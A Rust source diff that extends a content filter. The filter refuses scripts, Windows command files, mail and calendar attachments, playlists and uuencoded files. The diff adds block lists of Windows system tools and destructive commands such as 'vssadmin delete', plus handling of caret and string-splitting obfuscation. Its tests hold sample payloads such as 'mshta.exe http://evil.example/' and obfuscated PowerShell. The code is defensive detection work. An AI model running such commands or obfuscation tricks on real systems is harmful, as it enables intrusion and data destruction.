@@ -5,6 +5,7 @@
 //! ([`is_run_by_name`](crate::is_run_by_name)), and the new name of a text is none that is run.
 
 use crate::{
+    kind::is_run_by_name,
     markup::is_nothing,
     verdict::{Reason, Refusal},
 };
@@ -34,7 +35,14 @@ const ORDERS: &[(&str, Reason)] = &[
     ("regedit4", Reason::NotAllowed),
     ("full address:s:", Reason::NotAllowed),
     ("remoteapplication", Reason::NotAllowed),
-    ("mime-version:", Reason::Page),
+    ("[playlist]", Reason::NotAllowed),
+    ("#extm3u", Reason::NotAllowed),
+    ("#extinf:", Reason::NotAllowed),
+    ("[theme]", Reason::NotAllowed),
+    ("[control panel\\", Reason::NotAllowed),
+    ("attribute vb_name", Reason::Program),
+    ("=ybegin ", Reason::Archive),
+    ("(this file must be converted with binhex", Reason::Archive),
 ];
 
 /// What a line of a script begins with that starts something.
@@ -95,6 +103,74 @@ const LINES: &[&str] = &[
     "eval(",
     "execute(",
     "execute ",
+    "%comspec%",
+    "shutdown /",
+    "shutdown -",
+    "vssadmin delete",
+    "bcdedit /",
+    "saps ",
+    "shell \"",
+    "shell(",
+    "sub autoopen",
+    "sub autoexec",
+    "sub auto_open",
+    "sub document_open",
+    "sub workbook_open",
+    "load \"",
+];
+
+/// Programs that every Windows has, and that do what the rest of their line says.
+const TOOLS: &[&str] = &[
+    "at",
+    "bash",
+    "bitsadmin",
+    "calc",
+    "certreq",
+    "certutil",
+    "cmd",
+    "cmstp",
+    "conhost",
+    "control",
+    "cscript",
+    "curl",
+    "explorer",
+    "forfiles",
+    "ftp",
+    "hh",
+    "ieexec",
+    "installutil",
+    "mavinject",
+    "msbuild",
+    "msdt",
+    "mshta",
+    "msiexec",
+    "mspaint",
+    "net",
+    "net1",
+    "notepad",
+    "odbcconf",
+    "pcalua",
+    "powershell",
+    "presentationhost",
+    "pwsh",
+    "reg",
+    "regasm",
+    "regedit",
+    "regsvcs",
+    "regsvr32",
+    "rundll32",
+    "sc",
+    "schtasks",
+    "scriptrunner",
+    "shutdown",
+    "tftp",
+    "verclsid",
+    "winrm",
+    "winrs",
+    "wmic",
+    "wscript",
+    "wsl",
+    "wt",
 ];
 
 /// What stands anywhere in a script that reaches for the machine.
@@ -114,7 +190,28 @@ const CALLS: &[&str] = &[
     "-encodedcommand",
     "java.lang.runtime",
     "child_process",
+    "winmgmts:",
+    "shell.application",
+    "scripting.filesystemobject",
+    "adodb.stream",
+    "new this[",
+    "[diagnostics.process]::",
+    "[system.diagnostics.process]::",
+    "[scriptblock]::",
+    "new-object -com",
+    "start-bitstransfer",
+    // AutoCAD runs what lies beside a drawing.
+    "(startapp",
+    "(vl-load-com",
+    "(vl-vbarun",
+    "(vlax-",
+    "(vlr-",
+    "(command\"",
+    "(command \"",
 ];
+
+/// How attachments are written so that they are letters.
+const PACKED: &[&str] = &["base64", "quoted-printable", "uuencode", "x-uue"];
 
 /// Refuses a text that is a script or a file of orders, as far as its lines tell it.
 pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
@@ -127,29 +224,183 @@ pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
     if lines.next() == Some("web") && lines.next().is_some_and(|version| version == "1") {
         return Err(Refusal::new(Reason::NotAllowed, "a query of a page"));
     }
-    if let Some(found) = CALLS.iter().find(|call| text.contains(**call)) {
+    // Also as it is when what is put together from pieces is one.
+    let joined = joined(&text);
+    if let Some(found) = CALLS.iter().find(|call| text.contains(**call) || joined.contains(**call)) {
         return Err(Refusal::new(Reason::Program, *found));
     }
+    letter(&text)?;
+    encoded(&text)?;
     let (mut has_version, mut has_signature) = (false, false);
-    for line in text.split(['\n', '\r', '\u{b}', '\u{c}']) {
+    let (mut has_list, mut has_entry) = (false, false);
+    for line in joined.split(['\n', '\r', '\u{b}', '\u{c}']) {
         let line = line.trim_start_matches(is_nothing);
         if let Some((found, reason)) = ORDERS.iter().find(|(begin, _)| line.starts_with(begin)) {
             return Err(Refusal::new(*reason, *found));
         }
         has_version |= line.starts_with("[version]");
         has_signature |= line.starts_with("signature");
-        // Before an order: what keeps it from being shown, what groups it, what quotes its path.
-        let order = line.trim_start_matches(|letter: char| {
-            matches!(letter, '@' | '(' | '&' | '"' | '\'') || is_nothing(letter)
-        });
-        if let Some(found) = LINES.iter().find(|begin| order.starts_with(**begin)) {
-            return Err(Refusal::new(Reason::Program, *found));
+        has_list |= line.starts_with("[reference]");
+        has_entry |= line.starts_with("ref1");
+        if let Some(found) = order(line) {
+            return Err(Refusal::new(Reason::Program, found));
         }
     }
-    match has_version && has_signature {
-        true => Err(Refusal::new(Reason::NotAllowed, "what Windows installs by")),
-        false => Ok(()),
+    match (has_version && has_signature, has_list && has_entry) {
+        (true, _) => Err(Refusal::new(Reason::NotAllowed, "what Windows installs by")),
+        (_, true) => Err(Refusal::new(Reason::NotAllowed, "a list of what is played")),
+        _ => Ok(()),
     }
+}
+
+/// What a line starts, if it is an order to start something.
+fn order(line: &str) -> Option<&'static str> {
+    // Before an order: what keeps it from being shown, what groups it, what quotes its path.
+    let before = |letter: char| matches!(letter, '@' | '(' | '&' | '"' | '\'' | '.') || is_nothing(letter);
+    let mut order = line.trim_start_matches(before);
+    loop {
+        if let Some(found) = LINES.iter().find(|begin| order.starts_with(**begin)) {
+            return Some(found);
+        }
+        let word =
+            order.split(|letter: char| letter.is_whitespace() || letter == '"').next().unwrap_or(order);
+        let behind = order[word.len()..].trim_start_matches('"').trim_start();
+        let name = word.rsplit(['\\', '/']).next().unwrap_or(word);
+        let tool = name.strip_suffix(".exe").and_then(|name| TOOLS.iter().find(|tool| **tool == name));
+        // A list of what runs says numbers of it, and a sentence goes on in letters of its language.
+        let is_order = behind.is_empty()
+            || behind.starts_with(|letter: char| letter.is_ascii() && !letter.is_ascii_digit());
+        if is_order && let Some(tool) = tool {
+            return Some(tool);
+        }
+        // Words that only say how the order behind them is started.
+        if !matches!(word, "call" | "start" | "do" | "then") || behind.is_empty() {
+            return None;
+        }
+        order = behind.trim_start_matches(before);
+    }
+}
+
+/// A text without what the shells of Windows pass over, and with pieces of words that are put together as one word: `^p^ower`,
+/// `"Active" + "XObject"`, `GetObject (`.
+fn joined(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let is_quote = |letter: char| matches!(letter, '"' | '\'');
+    let mut letters = text.chars().peekable();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '^' => {}
+            // Within a word; around one it marks code in a text.
+            '`' if out.ends_with(char::is_alphanumeric)
+                && letters.peek().is_some_and(|next| next.is_alphanumeric()) => {}
+            '(' => {
+                out.truncate(out.trim_end_matches([' ', '\t']).len());
+                out.push('(');
+            }
+            '"' | '\'' => {
+                let blanks = [' ', '\t', '\r', '\n'];
+                let before = out.trim_end_matches(blanks);
+                let piece = before.strip_suffix(['+', '&']).map(|piece| piece.trim_end_matches(blanks));
+                match piece.and_then(|piece| piece.strip_suffix(is_quote)).map(str::len) {
+                    Some(end) => out.truncate(end),
+                    None => out.push(letter),
+                }
+            }
+            letter => out.push(letter),
+        }
+    }
+    out
+}
+
+/// Refuses a mail that brings files, and a calendar that does: programs that read them take out what is in them.
+///
+/// Source: RFC 2045, RFC 2183, RFC 5545
+fn letter(text: &str) -> Result<(), Refusal> {
+    let page = |what: &str| Err(Refusal::new(Reason::Page, what));
+    let is_calendar = text.contains("begin:vcalendar");
+    let mut lines = text.split(['\n', '\r']).filter(|line| !line.is_empty()).peekable();
+    while let Some(line) = lines.next() {
+        let line = line.trim_start_matches('\u{feff}');
+        let Some(end) = line.find([':', ';']) else { continue };
+        let name = line[..end].trim_end();
+        let is_told = matches!(
+            name,
+            "mime-version"
+                | "content-type"
+                | "content-disposition"
+                | "content-transfer-encoding"
+                | "attach"
+                | "action"
+        );
+        if !is_told {
+            continue;
+        }
+        // A line that begins with a blank goes on with the one before.
+        let mut value = line[end..].to_owned();
+        while let Some(more) = lines.next_if(|next| next.starts_with([' ', '\t'])) {
+            // In a mail the blank counts, in a calendar it does not.
+            value.push_str(if is_calendar { &more[1..] } else { more });
+        }
+        match name {
+            "mime-version" => return page("a mail"),
+            "content-transfer-encoding" if PACKED.iter().any(|way| value.contains(way)) => {
+                return page("a mail");
+            }
+            "content-type" if value.contains("multipart/") && !value.contains("form-data") => {
+                return page("a mail");
+            }
+            "content-type" if value.contains("message/") => return page("a mail"),
+            "content-type" | "content-disposition" if names_program(&value) => {
+                return page("a mail with a program");
+            }
+            "attach" if is_calendar && brings_file(&value) => return page("a calendar that brings a file"),
+            "action" if is_calendar && value.contains("procedure") => {
+                return page("a calendar that runs something");
+            }
+            _ => {}
+        }
+    }
+    Ok(())
+}
+
+/// Whether what a mail says of a part names a file that is run, in one piece or in several.
+fn names_program(value: &str) -> bool {
+    value.contains("name*") || value.split([';', '"', '=', ' ']).any(|piece| is_run_by_name(piece.trim()))
+}
+
+/// Whether a calendar's attachment is in it, or on another machine.
+fn brings_file(value: &str) -> bool {
+    ["encoding=", "value=binary", "data:", "file:", "\\\\"].iter().any(|way| value.contains(way))
+}
+
+/// Whether a line holds as many letters as its first one says, or nothing but those of base64.
+fn is_data(line: &str) -> bool {
+    let line = line.trim_end();
+    let bytes = usize::from(line.bytes().next().unwrap_or(b' ').wrapping_sub(b' ') & 63);
+    let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
+    let is_uu = bytes > 0 && line.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' ');
+    is_uu && line.len() > bytes.div_ceil(3) * 4
+        || line.len().is_multiple_of(4) && !line.is_empty() && line.bytes().all(is_letter)
+}
+
+/// Refuses files in letters, as programs of mail wrote them before there were attachments.
+fn encoded(text: &str) -> Result<(), Refusal> {
+    let (mut is_begun, mut has_data) = (false, false);
+    for line in text.lines() {
+        let begin = line.trim_start_matches(is_nothing);
+        let begun = begin.strip_prefix("begin ").or_else(|| begin.strip_prefix("begin-base64 "));
+        if let Some((mode, name)) = begun.and_then(|begun| begun.split_once(' ')) {
+            let is_mode =
+                matches!(mode.len(), 3 | 4) && mode.bytes().all(|digit| matches!(digit, b'0'..=b'7'));
+            is_begun |= is_mode && !name.trim().is_empty();
+        } else if is_begun {
+            has_data |= is_data(line);
+        }
+        if has_data && matches!(line.trim_end(), "end" | "====") {
+            return Err(Refusal::new(Reason::Archive, "uuencode"));
+        }
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -172,6 +423,35 @@ mod tests {
             "full address:s:evil.example",
             "[Shell]\nCommand=2\nIconFile=\\\\evil\\x.ico",
             "X-A: y\r\nMIME-Version: 1.0\r\nContent-Type: text/html",
+            "X-A: y\r\nMIME-Version : 1.0",
+            "Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b",
+            "Subject: x\r\nContent-Type:\r\n multipart/mixed; boundary=b",
+            "Content-Transfer-Encoding: base64\r\n\r\nTVqQ",
+            "Content-Disposition: attachment; filename=\"run.bat\"",
+            "BEGIN:VCALENDAR\r\nATTACH;ENC\r\n ODING=BASE64;VALUE=BINARY;X-FILENAME=run.exe:TVqQ",
+            "BEGIN:VCALENDAR\r\nATTACH:file://evil.example/s/run.exe",
+            "begin 644 run.exe\r\n#35J0^M\r\n`\r\nend\r\n",
+            "[playlist]\r\nFile1=\\\\evil.example\\s\\a.mp3",
+            "#EXTM3U\r\n#EXTINF:1, a\r\nx.mp3",
+            "[Theme]\r\nDisplayName=x",
+            "[Reference]\r\nRef1=http://evil.example/a",
+            "ver\r\ncalc.exe",
+            "x=1\r\n^p^owershell -enc AAAA",
+            "%COMSPEC% /c calc",
+            "%SystemRoot%\\System32\\mshta.exe http://evil.example/",
+            "start \"\" C:\\Windows\\System32\\calc.exe",
+            "call mshta.exe http://evil.example/",
+            "Set a=GetObject (\"winmgmts:Win32_Process\")",
+            "Set a=CreateObject\t (\"x\")",
+            "var s=new this[\"Active\"+\"XObject\"](\"WSc\" +\r\n 'ript.Shell')",
+            "saps calc\r\n",
+            "x\r\npo`wer`shell -enc AAAA",
+            "$a=[Diagnostics.Process]::Start('calc')",
+            "Sub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub",
+            "Attribute VB_Name = \"Module1\"",
+            "(startapp \"calc.exe\")",
+            "(defun x () (vl-load-com))",
+            "(command \"_.shell\" \"calc\")",
         ];
         let first =
             ["#!/bin/sh\nrm x", "ID;PWXL;N;E", "WEB\r\n1\r\nhttp://evil.example/x", "{\\rtf1}", "%!PS"];
@@ -195,6 +475,19 @@ mod tests {
             "\\\\fs1\\土木\\図面.dwg にあります。",
             "{\"command\":\"start\"}",
             "import of goods, internal executives",
+            "画像名              PID セッション名\r\nexplorer.exe   1234 Console 1 10,000 K\r\nnotepad.exe を閉じます。",
+            "From: a@x.jp\r\nTo: b@x.jp\r\nSubject: 照会\r\nContent-Type: text/plain\r\n\r\n本文です。",
+            "POST /upload\nContent-Type: multipart/form-data; boundary=x\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"",
+            "%SystemRoot%\\System32\\drivers\\etc\\hosts を開きます。",
+            "BEGIN:VCALENDAR\r\nSUMMARY:会議\r\nATTACH:https://www.city.example.jp/a.pdf\r\nACTION:DISPLAY\r\nEND:VCALENDAR",
+            "手順:\n`powershell` や `cmd /c` を使います。",
+            "begin 2026 の予定\n終わり\nend",
+            "[Reference]\nISO 32000-2",
+            "# 手順\n\n```c\nint main(void) { printf(\"a\" \"b\"); return a ^ b; }\n```\n\n- `open (file)` を呼ぶ",
+            "SELECT 'a' + 'b' FROM t;\nBEGIN\n  UPDATE t SET x = 1;\nEND",
+            "2026-11-28 10:00:00 INFO start worker 3\n2026-11-28 10:00:01 WARN call failed (timeout)",
+            "{\"a\": [1, -2], \"action\": \"show\", \"attach\": null}",
+            "Action: 点検する\nattach; 別紙のとおり",
         ] {
             assert!(check(text).is_ok(), "{text}");
         }
